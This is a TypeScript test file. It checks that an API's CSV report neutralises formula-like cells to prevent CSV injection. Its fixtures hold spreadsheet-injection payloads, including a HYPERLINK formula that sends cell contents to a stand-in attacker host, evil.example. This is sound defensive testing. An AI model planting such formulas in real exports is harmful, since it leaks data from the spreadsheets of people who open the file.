/**
 * The report CSV (the API's, which the console downloads as is) cannot carry a formula into a spreadsheet:
 * display names, status names and user ids that start with "=", "+", "-" or "@" arrive prefixed with "'" and
 * quoted (OWASP "CSV Injection"). Issue 13.
 */
import { afterAll, beforeAll, expect, inject, it } from 'vitest';
import { startTestDaemon, type TestDaemon } from '../harness/daemon.js';

let now = new Date('2024-03-02T08:00:00.000Z');
let d: TestDaemon;

beforeAll(async () => {
  d = await startTestDaemon({ redisUrl: inject('redisUrl'), clock: () => now });
  const created = await d.request('admin', 'POST', '/v1/status-types', {
    id: 'formula',
    name: '@SUM(1+1)*cmd',
    color: '#112233',
  });
  expect(created.status).toBe(201);
  const name = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
  expect((await d.request('admin', 'PUT', '/v1/users/-1+2', { displayName: name })).status).toBe(201);
  expect((await d.request('admin', 'PUT', '/v1/users/-1+2/status', { statusId: 'formula' })).status).toBe(
    200,
  );
  now = new Date('2024-03-02T09:00:00.000Z');
});
afterAll(async () => d?.stop());

it('writes formula-like cells neutralised', async () => {
  const res = await d.request(
    'supervisor',
    'GET',
    '/v1/reports/time-in-status?from=2024-03-02T00:00:00Z&to=2024-03-03T00:00:00Z&format=csv',
  );
  expect(res.status).toBe(200);
  const [, row] = (res.body as string).split('\r\n');
  expect(row).toBe(
    `"'-1+2","'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",formula,"'@SUM(1+1)*cmd",3600,1,0,0,3600,0,0,0,3600,,0,0,0,0`,
  );
  // No cell of the file starts a formula once its quotes are read.
  for (const line of (res.body as string).split('\r\n').slice(1, -1)) {
    expect(line).not.toMatch(/(^|,)"?[=+\-@]/);
  }
});
